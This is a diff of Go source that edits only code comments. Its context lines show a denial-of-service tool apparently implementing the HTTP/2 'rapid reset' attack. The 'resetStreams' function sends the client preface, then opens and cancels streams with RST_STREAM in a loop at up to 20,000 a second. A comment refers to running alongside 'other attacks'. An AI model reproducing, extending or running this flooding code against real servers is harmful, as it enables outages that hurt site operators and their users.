@@ -29,7 +29,7 @@ func resets(ctx context.Context, t *target, s *stats, authorization string) {
 		if err != nil {
 			return
 		}
-		// What the server sends is read, or it would wait for us.
+		// Read the server's frames, or it would wait for us.
 		read := make(chan struct{})
 		go func() {
 			defer close(read)
@@ -42,7 +42,7 @@ func resets(ctx context.Context, t *target, s *stats, authorization string) {
 	})
 }
 
-// resetStreams uses a connection until the server has had enough of it.
+// resetStreams uses a connection until the server closes it.
 func resetStreams(ctx context.Context, conn net.Conn, s *stats, authorization string) {
 	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
 		return
@@ -72,7 +72,7 @@ func resetStreams(ctx context.Context, conn net.Conn, s *stats, authorization st
 			framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
 			return
 		}
-		// Twenty thousand in a second: more would only take the CPU from other attacks.
+		// At most 20,000 in a second: more would only take CPU time from other attacks.
 		if s.tries.Add(1)%200 == 0 {
 			select {
 			case <-ctx.Done():
